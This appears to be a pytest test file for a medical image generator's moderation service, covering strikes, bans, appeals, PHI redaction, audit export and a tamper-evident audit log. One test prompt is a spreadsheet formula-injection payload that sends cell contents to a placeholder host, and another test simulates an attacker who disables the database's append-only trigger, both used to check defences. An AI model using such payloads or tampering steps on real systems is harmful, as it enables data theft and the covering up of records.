"""The moderation record on SQLite and PostgreSQL: cases, review, appeals, strikes, bans, and the
append-only, hash-chained audit log."""

from __future__ import annotations

import csv
import io
import json
import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

from imagine_med.moderation.config import ModerationSettings
from imagine_med.moderation.models import AppendOnlyError, AuditEntry
from imagine_med.moderation.service import (
    AlreadyDecided,
    AppealRefused,
    ModerationError,
    ModerationService,
    NotFound,
    NotModerator,
)
from imagine_med.queue.types import Requester
from imagine_med.store import make_engine, session_scope

MOD = ("moderator",)
ANNA = Requester(platform="discord", user="anna", team="g1", channel="c1")
BEN = Requester(platform="slack", user="ben", team="T1", channel="C1")


class Clock:
    def __init__(self) -> None:
        self.t = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.t

    def advance(self, **kw: float) -> None:
        self.t += timedelta(**kw)


@pytest.fixture
def clock() -> Clock:
    return Clock()


def service(url: str, clock: Clock, **conf: float) -> ModerationService:
    settings = ModerationSettings(**{"strikes_to_ban": 3, "appeals_per_day": 5, **conf})
    return ModerationService(url, mod_settings=settings, moderator_roles=MOD, now=clock)


def test_migration_makes_the_audit_log_append_only_in_the_database(store_url: str,
                                                                   clock: Clock) -> None:
    svc = service(store_url, clock)
    svc.check("sexy nurse", ANNA)
    engine = make_engine(store_url)
    names = set(sa.inspect(engine).get_table_names())
    assert {"moderation_cases", "moderation_case_jobs", "moderation_appeals",
            "moderation_strikes", "moderation_bans", "moderation_audit",
            "moderation_audit_head"} <= names
    for statement in ("UPDATE moderation_audit SET reason = 'edited'",
                      "DELETE FROM moderation_audit"):
        with pytest.raises(sa.exc.DBAPIError, match="append-only"), engine.begin() as conn:
            conn.execute(sa.text(statement))
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM moderation_audit")).scalar() == 2
    with pytest.raises(AppendOnlyError), session_scope(engine) as s:
        s.scalars(sa.select(AuditEntry)).first().reason = "edited"  # type: ignore[union-attr]
    with pytest.raises(AppendOnlyError), session_scope(engine) as s:
        s.delete(s.scalars(sa.select(AuditEntry)).first())
    assert svc.verify_audit().ok


def test_screening_records_cases_only_for_hold_and_block(store_url: str, clock: Clock) -> None:
    svc = service(store_url, clock)
    ok = svc.check("PA chest x-ray, right upper lobe pneumonia --seed 7", ANNA)
    held = svc.check("brain MRI of a celebrity", ANNA)
    blocked = svc.check("sexy nurse", ANNA)
    assert (ok.decision, ok.case_id) == ("allow", None)
    assert held.decision == "hold" and held.case_id and held.strikes == 0
    assert blocked.decision == "block" and blocked.case_id and blocked.strikes == 1
    items = svc.pending()
    assert [(i.kind, i.id) for i in items] == [("hold", held.case_id)]
    events = [(e["event"], e["decision"]) for e in svc.audit_entries()]
    assert events == [("screen", "allow"), ("screen", "hold"), ("screen", "block"),
                      ("strike", "strike")]
    assert all(e["subject"] == ANNA.user_key for e in svc.audit_entries())


def test_repeated_blocks_pause_the_user_and_pauses_grow(store_url: str, clock: Clock) -> None:
    svc = service(store_url, clock, strikes_to_ban=2, ban_hours=1, ban_growth=3,
                  strike_window_hours=48)
    assert svc.check("sexy nurse", ANNA).banned_until is None
    second = svc.check("p0rn MRI", ANNA)
    assert second.banned_until == clock.t + timedelta(hours=1)
    paused = svc.check("PA chest x-ray", ANNA)  # even a clean prompt, while paused
    assert paused.decision == "block" and "moderation.banned" in paused.rule_ids
    assert "paused until 2026-11-28 13:00 UTC" in paused.reason
    assert svc.check("PA chest x-ray", BEN).decision == "allow"  # others are unaffected
    clock.advance(hours=1, seconds=1)
    assert svc.check("PA chest x-ray", ANNA).decision == "allow"
    third = svc.check("erotic photo", ANNA)  # 3 strikes in 48 h: second pause, 3x longer
    assert third.banned_until == clock.t + timedelta(hours=3)
    with pytest.raises(NotModerator):
        svc.unban(ANNA.user_key, "ben", ("student",))
    assert svc.unban(ANNA.user_key, "mod1", MOD, "talked to her")
    assert svc.banned_until(ANNA.user_key) is None
    clock.advance(hours=49)
    assert svc.strikes(ANNA.user_key) == 0  # strikes leave the window
    kinds = [e["event"] for e in svc.audit_entries()]
    assert kinds.count("ban") == 2 and kinds.count("unban") == 1


def test_review_needs_a_moderator_a_reason_and_happens_once(store_url: str,
                                                            clock: Clock) -> None:
    svc = service(store_url, clock)
    case = svc.check("a famous actress's mammogram", BEN).case_id
    assert case
    with pytest.raises(NotModerator):
        svc.decide(case, "ben", ("student",), approve=True)
    with pytest.raises(ModerationError, match="reason"):
        svc.decide(case, "mod1", MOD, approve=False, reason="  ")
    with pytest.raises(NotFound):
        svc.decide("c-000000000000", "mod1", MOD, approve=True)
    res = svc.decide(case, "mod1", MOD, approve=False, reason="no real people")
    assert (res.case_status, res.user_key) == ("rejected", BEN.user_key)
    assert "no real people" in res.message
    with pytest.raises(AlreadyDecided):
        svc.decide(case, "mod2", MOD, approve=True)
    last = svc.audit_entries()[-1]
    assert (last["event"], last["actor"], last["reason"]) == ("reject", "mod1", "no real people")
    assert svc.pending() == []


def test_appeals_quota_owner_and_outcomes(store_url: str, clock: Clock) -> None:
    svc = service(store_url, clock, appeals_per_day=2, strikes_to_ban=2, ban_hours=24)
    first = svc.check("sexy nurse", ANNA)
    second = svc.check("remove the watermark", ANNA)
    assert second.banned_until is not None
    assert first.case_id and second.case_id
    with pytest.raises(AppealRefused, match="Only the person"):
        svc.appeal(first.case_id, BEN, "mine")
    a1 = svc.appeal(first.case_id, ANNA, "a nursing-uniform costume for a lecture, Mr Jones")
    with pytest.raises(AppealRefused, match="already waiting"):
        svc.appeal(first.case_id, ANNA)
    svc.appeal(second.case_id, ANNA, "sorry")
    third = svc.check("erotic", BEN)
    paused = svc.check("chest x-ray", ANNA)  # refused while paused: also appealable
    assert third.case_id and paused.case_id
    clock.advance(hours=1)
    with pytest.raises(AppealRefused, match="2 times per 24 hours"):
        svc.appeal(paused.case_id, ANNA)
    items = {i.id: i for i in svc.pending()}
    assert items[a1].kind == "appeal" and items[a1].appeal_text is not None
    assert "Jones" not in items[a1].appeal_text and "[NAME]" in items[a1].appeal_text
    # accepted: the strike is revoked, the pause lifted, and the same prompt now passes
    res = svc.decide(a1, "mod1", MOD, approve=True)
    assert res.case_status == "overturned" and svc.banned_until(ANNA.user_key) is None
    assert svc.strikes(ANNA.user_key) == 1
    again = svc.check("sexy nurse", ANNA)
    assert again.decision == "allow" and "moderation.override" in again.rule_ids
    assert svc.check("sexy nurses", ANNA).decision == "block"  # another prompt: no override
    clock.advance(days=8)
    assert svc.check("sexy nurse", ANNA).decision == "block"  # the override expires
    clock.advance(hours=24)
    a3 = svc.appeal(third.case_id, BEN, "why")
    res = svc.decide(a3, "mod1", MOD, approve=False, reason="sexualised")
    assert res.case_status == "blocked" and "kept the decision" in res.message
    events = [e["event"] for e in svc.audit_entries()]
    assert {"appeal", "appeal_overturned", "appeal_upheld", "unban"} <= set(events)


def test_audit_export_csv_and_jsonl(store_url: str, clock: Clock) -> None:
    svc = service(store_url, clock)
    svc.check("patient John Smith, DOB 04/07/1962, chest x-ray", ANNA)
    clock.advance(minutes=5)
    svc.check("brain MRI of a celebrity", BEN)
    buf = io.StringIO()
    assert svc.export_audit("jsonl", buf) == 3
    lines = [json.loads(x) for x in buf.getvalue().splitlines()]
    assert [x["seq"] for x in lines] == [1, 2, 3]
    assert lines[0]["prompt_redacted"] == "patient [NAME], DOB [DOB], chest x-ray"
    assert lines[0]["rule_ids"] == ["phi.dob", "phi.name"] or set(lines[0]["rule_ids"]) == {
        "phi.dob", "phi.name"}
    buf = io.StringIO()
    svc.export_audit("csv", buf, since=clock.t - timedelta(minutes=1))
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert len(rows) == 1 and rows[0]["subject"] == BEN.user_key
    assert rows[0]["rule_ids"] == "misuse.celebrity" and rows[0]["decision"] == "hold"
    assert "John" not in buf.getvalue()
    with pytest.raises(ModerationError):
        svc.export_audit("xml", io.StringIO())
    clock.advance(minutes=5)  # a prompt that a spreadsheet would run as a formula
    svc.check('=HYPERLINK("http://x.example/?"&A1,"chest x-ray") sexy nurse', BEN)
    buf = io.StringIO()
    svc.export_audit("csv", buf, since=clock.t - timedelta(minutes=1))
    row = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert row["prompt_redacted"].startswith("'=HYPERLINK(")


def test_verify_detects_an_edit_made_behind_the_application(store_url: str,
                                                             clock: Clock) -> None:
    svc = service(store_url, clock)
    for p in ("sexy nurse", "chest x-ray", "a celebrity's CT"):
        svc.check(p, ANNA)
    assert svc.verify_audit().ok
    engine = make_engine(store_url)
    with engine.begin() as conn:  # an attacker with database access removes the guard
        if engine.dialect.name == "sqlite":
            conn.execute(sa.text("DROP TRIGGER moderation_audit_no_update"))
        else:
            conn.execute(sa.text(
                "ALTER TABLE moderation_audit DISABLE TRIGGER moderation_audit_append_only"))
        conn.execute(sa.text("UPDATE moderation_audit SET decision = 'allow' WHERE seq = 2"))
    check = svc.verify_audit()
    assert not check.ok and check.bad_seq == 2 and "altered" in check.problem


def test_concurrent_appends_keep_one_chain(store_url: str, clock: Clock) -> None:
    svc = service(store_url, clock)
    barrier = threading.Barrier(4)

    def work(i: int) -> None:
        barrier.wait()
        who = Requester(platform="cli", user=f"u{i}", team="t")
        for j in range(6):
            svc.check("brain MRI of a celebrity" if j % 2 else f"chest x-ray {i}", who)

    with ThreadPoolExecutor(4) as pool:
        list(pool.map(work, range(4)))
    check = svc.verify_audit()
    assert check.ok and check.entries == 24


def test_a_decision_abandoned_mid_way_is_freed_after_a_while(store_url: str,
                                                             clock: Clock) -> None:
    """A moderator process that died between claiming a case and finishing must not leave
    it undecidable forever: after STALE_CLAIM it is back in the queue and can be decided."""
    from imagine_med.moderation.models import ModerationCase
    from imagine_med.moderation.service import STALE_CLAIM

    svc = service(store_url, clock)
    case_id = svc.check("a famous actress's mammogram", BEN).case_id
    assert case_id
    with session_scope(svc.engine) as s:  # what a crash right after the claim leaves behind
        case = s.get(ModerationCase, case_id)
        case.status, case.decided_at = "deciding", clock()
    assert svc.pending() == []
    with pytest.raises(AlreadyDecided):
        svc.decide(case_id, "mod1", MOD, approve=True)
    clock.advance(seconds=STALE_CLAIM.total_seconds() + 1)
    assert [i.case_id for i in svc.pending()] == [case_id]
    res = svc.decide(case_id, "mod1", MOD, approve=False, reason="no real people")
    assert res.case_status == "rejected"
